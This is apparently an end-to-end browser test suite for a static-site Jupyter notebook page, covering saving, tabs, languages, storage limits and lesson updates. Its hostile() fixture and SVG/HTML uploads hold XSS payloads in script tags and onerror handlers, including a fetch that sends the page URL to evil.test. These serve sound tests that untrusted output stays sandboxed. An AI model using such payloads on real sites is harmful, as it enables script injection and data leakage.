import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { gunzipSync } from "node:zlib";
import { expect } from "chai";
import { notebookText } from "../support/kernels";
import { needs } from "../support/needs";
import { inProject } from "../support/project";
import type { NotebookPage } from "./notebook-page";
import { SitePage } from "./site-page";
import { waitFor } from "./wait-for";

const LESSON = "en/05-simple-layers.ipynb";
const CELLS = "openNotebook.panel.content.widgets";
const PATH = "new URLSearchParams(location.search).get('notebook')";
const STATUS = "document.getElementById('save-status').textContent";
const OWN = `[...document.querySelectorAll("#lessons ul:last-of-type a")].map((a) => a.textContent)`;
const note = (kind: string) =>
  `document.querySelector('#notice [data-kind=${kind}] span')?.textContent`;
const link = (text: string) =>
  `[...document.querySelectorAll(".jp-RenderedMarkdown a")].find((a) => a.textContent === "${text}")`;

describe("the notebook page of a static site", function () {
  this.timeout(240_000);
  let site: SitePage;

  before(async function () {
    needs(this, "chromium", "playwright-core");
    site = await SitePage.start();
  });
  afterEach(async () => {
    await site?.tidy();
    expect(site?.wrong ?? []).to.deep.equal([]);
  });
  after(() => site?.stop());

  const codeCell = (page: NotebookPage) =>
    page.page.evaluate<number>(`${CELLS}.findIndex(({ model }) => model.type === "code")`);
  const isAt = (page: NotebookPage, path: string) =>
    page.wait(`${PATH} === ${JSON.stringify(path)} && window.openNotebook !== undefined`);
  const press = async (page: NotebookPage, keys: string) => {
    await page.wait("document.activeElement === document.querySelector('.jp-Dialog input')");
    await page.page.keyboard.press("Control+a");
    await page.page.keyboard.insertText(keys);
    await page.page.keyboard.press("Enter");
  };

  /** Opens a file as one chooses it on a machine. */
  async function choose(page: NotebookPage, name: string, text: string): Promise<void> {
    const folder = mkdtempSync(join(tmpdir(), "chosen-"));
    const file = join(folder, name);
    writeFileSync(file, text);
    page.page.on("filechooser", (chooser) => void chooser.setFiles(file));
    await page.press("open-file");
    await isAt(page, name);
    await page.ready();
    rmSync(folder, { recursive: true });
  }

  /** Asks the home of a page, as Jupyter's services do. */
  const ask = <T>(page: NotebookPage, address: string, init = "{}") =>
    page.page.evaluate<T>(`(async () => {
      const { serverSettings } = openNotebook.context._manager.contents;
      const answer = await serverSettings.fetch(serverSettings.baseUrl + ${JSON.stringify(address)}, ${init});
      return answer.status === 204 ? null : answer.json();
    })()`);

  it("opens a lesson, keeps what is changed and shown in it, and asks nobody but its site", async () => {
    const page = await site.open(LESSON);
    const cell = await codeCell(page);
    expect(await page.kinds()).to.deep.equal([]);
    await page.page.evaluate(`(() => {
      window.asked = 0;
      navigator.storage.persist = async () => { asked++; return true; };
    })()`);
    await page.type(cell, "'my own'");
    expect((await page.run(cell))[0]?.data?.["text/plain"]).to.equal("'my own'");
    await page.saved();
    // Once there is work, and once only, the browser is asked to keep it.
    await page.type(cell, "'my own'");
    await page.press("save");
    await page.saved();
    expect(await page.page.evaluate("asked")).to.equal(1);
    await site.shot(page, "site-page");
    await page.page.reload();
    await page.ready();
    expect(await page.source(cell)).to.equal("'my own'");
    expect(await page.kinds()).to.deep.equal(["execute_result"]);
    expect(await page.page.evaluate("document.querySelector('.kept').textContent")).to.equal(
      "Kept in this browser only.",
    );
  });

  it("gives all work as one file of the form that is written down, and takes it in elsewhere", async () => {
    const page = await site.open(LESSON);
    await page.type(await codeCell(page), "'my own'");
    await page.saved();
    const download = page.page.waitForEvent("download");
    await page.press("save-work");
    const file = readFileSync(await (await download).path());
    // The form that is written down, by gzip and JSON alone.
    const { format, version, home, notebooks } = JSON.parse(String(gunzipSync(file)));
    expect({ format, version, home }).to.deep.equal({
      format: "backprop-work",
      version: 1,
      home: "page",
    });
    const [{ path, text }] = notebooks;
    expect([path, String(text).includes("'my own'")]).to.deep.equal([LESSON, true]);

    const other = await site.open(LESSON);
    const chooser = other.page.waitForEvent("filechooser");
    await other.press("take-work");
    const mimeType = "application/octet-stream";
    await (await chooser).setFiles({ name: "mine.backprop", mimeType, buffer: file });
    await other.answer("Close");
    const first = await codeCell(other);
    await other.wait(`${CELLS}[${first}].model.sharedModel.getSource() === "'my own'"`);
    await other.page.reload();
    await other.ready();
    expect(await other.source(await codeCell(other))).to.equal("'my own'");
  });

  it("has links between lessons, the other language, new, chosen, renamed and deleted notebooks", async () => {
    const page = await site.open("en/index.ipynb");
    await page.wait(`${link("Simple layers")} !== undefined`);
    await page.page.evaluate(`${link("Simple layers")}.click()`);
    await isAt(page, LESSON);
    await page.page.goBack();
    await isAt(page, "en/index.ipynb");
    await page.page.click("#lessons a[href*='05-simple']");
    await isAt(page, LESSON);
    await page.ready();
    await page.press("language");
    await isAt(page, "ko/05-simple-layers.ipynb");
    await page.wait("document.documentElement.lang === 'ko'");
    await page.ready();
    await site.shot(page, "site-page-ko");
    await page.press("language");
    await isAt(page, LESSON);
    await page.press("new-notebook");
    await isAt(page, "Untitled.ipynb");
    await page.ready();
    await page.type(0, "1 + 1");
    await page.press("rename");
    await press(page, "나의 노트 & more");
    await isAt(page, "나의 노트 & more.ipynb");
    await page.ready();
    expect(await page.source(0)).to.equal("1 + 1");
    await choose(page, "chosen.ipynb", notebookText(["'chosen'"], "tslab"));
    expect(await page.source(0)).to.equal("'chosen'");
    expect(await page.page.evaluate(OWN)).to.deep.equal(["chosen.ipynb", "나의 노트 & more.ipynb"]);
    await page.press("delete");
    await page.answer("Delete");
    await page.wait(`location.search === "" && ${OWN}.join() === "나의 노트 & more.ipynb"`);
    // A lesson has no such button.
    await page.open(site.urlOf(LESSON));
    expect(await page.page.evaluate("document.getElementById('delete') === null")).to.equal(true);
  });

  it("opens in the language that a link asks for, and keeps to it", async () => {
    const page = await site.newPage();
    await page.open(`${site.urlOf("ko/00-start-here.ipynb")}`);
    expect(await page.page.evaluate("document.documentElement.lang")).to.equal("ko");
    await page.open(`${site.urlOf(LESSON)}&lang=en`);
    expect(await page.page.evaluate("document.documentElement.lang")).to.equal("en");
    expect(new URL(page.page.url()).search).to.equal(`?notebook=${LESSON}`);
    await page.open(site.urlOf("ko/00-start-here.ipynb"));
    expect(await page.page.evaluate("document.documentElement.lang")).to.equal("en");
  });

  it("shows pictures beside a notebook, and hands out other files under their names", async () => {
    const page = await site.open(LESSON);
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="30" height="20"><script>parent.evil = 1</script></svg>`;
    const put = (path: string, content: string) =>
      ask(page, `api/contents/${path}`, JSON.stringify({ method: "PUT", body: content }));
    await put("en/a%20b.svg", JSON.stringify({ type: "file", format: "text", content: svg }));
    const html = "<script>opener.evil = 1</script>";
    await put("en/page.html", JSON.stringify({ type: "file", format: "text", content: html }));
    const content = {
      cells: [
        {
          cell_type: "markdown",
          id: "text",
          metadata: {},
          source: "![](a%20b.svg) [get](page.html) ![](none.png)",
        },
      ],
      metadata: {},
      nbformat: 4,
      nbformat_minor: 5,
    };
    await put("en/pictures.ipynb", JSON.stringify({ type: "notebook", content }));
    await page.open(site.urlOf("en/pictures.ipynb"));
    await page.wait("document.querySelector('.jp-RenderedMarkdown img')?.naturalWidth === 30");
    const picture = "document.querySelector('.jp-RenderedMarkdown img').src";
    expect(await page.page.evaluate<string>(picture)).to.match(/^data:image\/svg\+xml;base64,/);
    const download = page.page.waitForEvent("download");
    await page.wait(`${link("get")}?.href.includes("file=")`);
    await page.page.evaluate(`${link("get")}.click()`);
    const file = await download;
    expect(file.suggestedFilename()).to.equal("page.html");
    expect(readFileSync(await file.path(), "utf8")).to.equal(html);
    expect(page.page.context().pages()).to.have.length(1);
    expect(await page.page.evaluate("window.evil ?? null")).to.equal(null);
    // Jupyter puts a picture's name into the page first, and then its address.
    expect(site.wrong.splice(0).every((said) => /404/.test(said))).to.equal(true);
  });

  /** A notebook from somewhere else, with outputs that want to run and claim that they may. */
  function hostile(): string {
    const foreign = JSON.parse(
      notebookText(["1", "html <p>mine</p><script>window.own = String(origin)</script>"], "tslab"),
    );
    const script = "window.evil = 1; fetch('http://evil.test/' + location.href)";
    for (const cell of foreign.cells)
      Object.assign(cell, {
        metadata: { trusted: true },
        outputs: [
          {
            output_type: "display_data",
            data: {
              "text/html": `<b>here</b><script>${script}</script><img src="x" onerror="${script}">`,
            },
            metadata: {},
          },
        ],
      });
    foreign.cells.push({
      cell_type: "markdown",
      id: "text",
      metadata: { trusted: true },
      source: `text <script>${script}</script><img src="http://evil.test/seen.png" onerror="${script}">`,
    });
    return JSON.stringify(foreign);
  }

  it("leaves a foreign notebook still until it is trusted; what is run here is live in a frame, also after a reload", async () => {
    const page = await site.open(LESSON);
    /** What the frames in which outputs run scripts of their own have under a name. */
    const inFrames = async (name: string) => {
      const frames = page.page.frames().slice(1);
      const gone = () => "gone";
      return Promise.all(
        frames.map((frame) => frame.evaluate(`window.${name} ?? null`).catch(gone)),
      );
    };
    const come = async (name: string, values: unknown[]) => {
      for (let tries = 0; tries < 200; tries++) {
        if (JSON.stringify(await inFrames(name)) === JSON.stringify(values)) return;
        await sleep(50);
      }
      expect(await inFrames(name)).to.deep.equal(values);
    };
    const isHere = async () =>
      expect(await page.page.evaluate("window.evil ?? window.own ?? null")).to.equal(null);
    await choose(page, "foreign.ipynb", hostile());
    await page.wait("document.querySelectorAll('.jp-OutputArea .framed p').length === 2");
    await page.wait("document.querySelector('.jp-RenderedMarkdown p') !== null");
    await sleep(1500);
    await isHere();
    expect(await inFrames("evil")).to.deep.equal([]);
    await page.run(1);
    await come("own", ["null"]);
    await page.saved();
    await page.page.reload();
    await page.ready();
    await come("own", ["null"]);
    expect(await inFrames("evil")).to.deep.equal([null]);
    expect(await page.page.evaluate("document.getElementById('trust').hidden")).to.equal(false);
    await page.press("trust");
    await page.answer("Trust");
    await come("evil", [1, null]);
    await sleep(500);
    await isHere();
    // Trusted or not: nobody hears of it.
    expect(site.heardElsewhere).to.deep.equal([]);
    const other = await site.newPage();
    await other.page.goto("http://evil.test/by-hand");
    expect(site.heardElsewhere[0]).to.equal("/by-hand");
    site.wrong = [];
  });

  describe("in two tabs", () => {
    it("takes over what the other has saved, and says so", async () => {
      const one = await site.open(LESSON);
      const two = await site.open(LESSON, one);
      const cell = await codeCell(one);
      await one.type(cell, "'from one'");
      await one.saved();
      await two.wait(`${CELLS}[${cell}].model.sharedModel.getSource() === "'from one'"`);
      expect(await two.page.evaluate(note("restored"))).to.equal(
        "Reloaded: it was saved in another tab.",
      );
      await two.type(cell, "'from two'");
      await two.saved();
      await one.wait(`${CELLS}[${cell}].model.sharedModel.getSource() === "'from two'"`);
    });

    it("asks what to keep where both save at once, and loses nothing", async () => {
      const one = await site.open(LESSON);
      const two = await site.open(LESSON, one);
      const cell = await codeCell(one);
      await one.type(cell, "'typed in one'");
      await two.type(cell, "'typed in two'");
      const save = (page: NotebookPage) =>
        page.page.evaluate("void openNotebook.context.save().catch(() => {})");
      await Promise.all([save(one), save(two)]);
      const asked =
        "document.querySelector('.jp-Dialog')?.textContent.includes('changed elsewhere')";
      const who = await Promise.race(
        [one, two].map(async (page) => {
          await page.wait(asked);
          return page;
        }),
      );
      await site.shot(who, "site-page-conflict");
      await who.answer("Both: save mine as a copy");
      await Promise.all([one.saved(), two.saved()]);
      const [kept, copied] = who === two ? ["one", "two"] : ["two", "one"];
      const sources = await who.page.evaluate<string>(`(async () => {
        const { contents } = openNotebook.context._manager;
        const sourceOf = async (path) => (await contents.get(path, { content: true })).content.cells[${cell}].source;
        return JSON.stringify([await sourceOf("${LESSON}"), await sourceOf("en/05-simple-layers-mine-1.ipynb")]);
      })()`);
      expect(JSON.parse(sources)).to.deep.equal([`'typed in ${kept}'`, `'typed in ${copied}'`]);
    });

    it("says that the other has renamed or deleted what is open", async () => {
      const one = await site.open(LESSON);
      await choose(one, "shared.ipynb", notebookText(["'shared'"], "tslab"));
      const two = await site.open("shared.ipynb", one);
      await one.press("rename");
      await press(one, "renamed");
      await isAt(one, "renamed.ipynb");
      await one.ready();
      await two.wait(`${note("renamed")}?.includes("renamed.ipynb")`);
      await two.press("openThere");
      await isAt(two, "renamed.ipynb");
      await two.ready();
      await one.press("delete");
      await one.answer("Delete");
      await two.wait(`${note("file")}?.includes("deleted, moved or renamed elsewhere")`);
      await two.type(0, "'brought back'");
      await two.wait(`${STATUS} === "Could not be saved"`);
      await two.press("saveHere");
      await two.saved();
      await one.open(site.urlOf("renamed.ipynb"));
      expect(await one.source(0)).to.equal("'brought back'");
      // What the refused saves have told to the console is no fault of the page.
      site.wrong = [];
    });
  });

  describe("where the browser keeps nothing", () => {
    for (const [language, words] of [
      ["en", "This browser keeps nothing for this site"],
      ["ko", "이 브라우저는 이 사이트의 데이터를 저장하지 않습니다"],
    ] as const)
      it(`says so at once, and works as long as it is open: ${language}`, async () => {
        const lesson = `${language}/05-simple-layers.ipynb`;
        // A page in such a frame has no place of its own, as in a browser that is set so.
        const frame = `<!doctype html><title>t</title><link rel="icon" href="data:,"><iframe sandbox="allow-scripts allow-modals allow-popups" style="width: 1200px; height: 700px" src="${site.urlOf(lesson)}"></iframe>`;
        writeFileSync(join(site.folder, "frame.html"), frame);
        const page = await site.newPage();
        await page.page.goto(`${site.url}frame.html`);
        const inside = page.page.frames()[1];
        if (!inside) throw new Error("expected a frame, but got none");
        const wait = (condition: string) => waitFor(inside, condition);
        await wait(`${note("storage")}?.startsWith("${words}")`);
        await wait("window.openNotebook !== undefined");
        await wait("document.getElementById('kernel-status').dataset.state === 'idle'");
        await inside.evaluate(`(() => {
          const { content } = openNotebook.panel;
          content.activeCellIndex = content.widgets.findIndex(({ model }) => model.type === "code");
          content.activeCell.model.sharedModel.setSource("'in memory'");
        })()`);
        await wait(`["Saved", "저장됨"].includes(${STATUS}) && !openNotebook.context.model.dirty`);
        await inside.evaluate("document.getElementById('run').click()");
        await wait("document.querySelector('.jp-OutputArea pre')?.textContent === \"'in memory'\"");
        await site.shot(page, `site-page-blocked-${language}`);
      });
  });

  it("says that there is no room, loses nothing, and saves again when there is", async () => {
    const page = await site.newPage();
    const session = await page.page.context().newCDPSession(page.page);
    const { origin } = new URL(site.url);
    // Of a fresh browser: before its first writing.
    await session.send("Storage.overrideQuotaForOrigin", { origin, quotaSize: 400_000 });
    await page.open(site.urlOf(LESSON));
    const cell = await codeCell(page);
    await page.type(cell, "'kept'");
    await page.saved();
    // In letters that cannot be packed.
    await page.page.evaluate(`(() => {
      const bytes = crypto.getRandomValues(new Uint8Array(60_000));
      const text = Array.from({ length: 16 }, () => Array.from(crypto.getRandomValues(bytes), (byte) => byte.toString(16)).join("")).join("");
      ${CELLS}[${cell}].model.sharedModel.setSource("'much: " + text + "'");
    })()`);
    await page.wait(`${note("save")}?.includes("no more room for this site")`);
    // What was given up may have left room for a lesson.
    await session.send("Storage.overrideQuotaForOrigin", { origin, quotaSize: 1 });
    const other = await site.newPage(page);
    await other.page.goto(site.urlOf("en/12-bug-museum.ipynb"));
    await other.wait(
      `document.querySelector(".jp-Dialog")?.textContent.includes("This lesson cannot be opened")`,
    );
    await site.shot(page, "site-page-full");
    const tab = await site.open(LESSON, page);
    expect(await tab.source(cell)).to.equal("'kept'");
    expect(await tab.page.evaluate(STATUS)).to.equal("Saved");
    // Room again: it is saved by itself.
    await session.send("Storage.overrideQuotaForOrigin", { origin });
    await page.saved();
    expect(await page.page.evaluate(`${note("save")} ?? null`)).to.equal(null);
    await tab.wait(`${CELLS}[${cell}].model.sharedModel.getSource().startsWith("'much: ")`);
    await page.type(cell, "'small'");
    await page.saved();
    await page.page.reload();
    await page.ready();
    expect(await page.source(cell)).to.equal("'small'");
    site.wrong = [];
  });

  it("works on a host without HTTPS, too", async () => {
    const { port } = new URL(site.url);
    const page = await site.newPage();
    const url = `http://classroom.test:${port}/somebody/lessons/`;
    await page.open(site.urlOf(LESSON, url));
    expect(await page.page.evaluate("isSecureContext")).to.equal(false);
    const cell = await codeCell(page);
    await page.type(cell, "'in a classroom'");
    await page.run(cell);
    await page.saved();
    const tab = await site.newPage(page);
    await tab.open(site.urlOf(LESSON, url));
    expect(await tab.source(cell)).to.equal("'in a classroom'");
    await tab.type(cell, "'in another tab'");
    await tab.saved();
    await page.wait(`${CELLS}[${cell}].model.sharedModel.getSource() === "'in another tab'"`);
  });

  it("brings lessons up to date with its site: untouched ones, and changed ones when it is wanted", async () => {
    const notebooks = mkdtempSync(join(tmpdir(), "edition-"));
    cpSync(inProject("notebooks/en"), join(notebooks, "en"), { recursive: true });
    cpSync(inProject("notebooks/ko"), join(notebooks, "ko"), { recursive: true });
    const untouched = "en/04-add-and-multiply-nodes.ipynb";
    try {
      const page = await site.open(untouched);
      await page.open(site.urlOf(LESSON));
      const cell = await codeCell(page);
      await page.type(cell, "'my work'");
      await page.saved();
      const scores = { version: 1, passed: { "05-1": true, "05-2": true } };
      const draft = { type: "file", format: "text", content: JSON.stringify(scores) };
      await ask(
        page,
        "api/contents/scorecard.json",
        JSON.stringify({ method: "PUT", body: JSON.stringify(draft) }),
      );
      for (const path of [untouched, LESSON]) {
        const file = join(notebooks, path);
        const notebook = JSON.parse(readFileSync(file, "utf8"));
        notebook.cells[0].source = ["# A new edition\n"];
        writeFileSync(file, JSON.stringify(notebook));
      }
      await site.publish(notebooks);
      await page.open(site.urlOf(untouched));
      expect(await page.source(0)).to.equal("# A new edition\n");
      expect(await page.page.evaluate(`${note("lesson")} ?? null`)).to.equal(null);

      await page.open(site.urlOf(LESSON));
      await page.wait(`${note("lesson")}?.startsWith("This lesson has changed since")`);
      expect(await page.source(cell)).to.equal("'my work'");
      expect(await page.source(0)).to.not.contain("new edition");
      const row = "document.querySelector('#lessons a[aria-current]').parentElement";
      await page.wait(`${row}.querySelector(".newer") !== null`);
      expect(await page.page.evaluate(`${row}.querySelector(".progress").textContent`)).to.equal(
        "2/4",
      );
      await site.shot(page, "site-page-behind");
      await page.type(cell, "'my work, and more'");
      await page.page.evaluate("window.isLeft = false");
      await page.press("take-new-lesson");
      await page.wait("window.isLeft === undefined && window.openNotebook !== undefined");
      await page.ready();
      expect(await page.source(0)).to.equal("# A new edition\n");
      expect(await page.page.evaluate(`${note("lesson")} ?? null`)).to.equal(null);
      await page.page.click("#lessons a[href*='05-simple-layers-kept-1']");
      await isAt(page, "en/05-simple-layers-kept-1.ipynb");
      expect(await page.source(cell)).to.equal("'my work, and more'");
    } finally {
      await site.publish(inProject("notebooks"));
      rmSync(notebooks, { recursive: true });
    }
  });

  it("says that it does not start, where it is opened as a file", async () => {
    const page = await site.newPage();
    await page.page.goto(`file://${site.folder}/notebook/index.html`);
    const seen =
      "[...document.querySelectorAll('.late')].filter((p) => getComputedStyle(p).visibility === 'visible').map(({ lang }) => lang).join()";
    await page.wait(`${seen} === "en,ko"`);
    site.wrong = [];
  });

  it("says which lesson its site does not give, and goes on with copies that are there", async () => {
    const page = await site.open(LESSON);
    await page.page.route(/\/notebook\/lessons\//, (route) =>
      route.fulfill({ status: 404, body: "gone" }),
    );
    await page.page.reload();
    await page.ready();
    await page.page.goto(site.urlOf("en/06-relu.ipynb"));
    await page.wait(
      `document.querySelector(".jp-Dialog")?.textContent.includes("could not be fetched from its site")`,
    );
    site.wrong = [];
  });
});
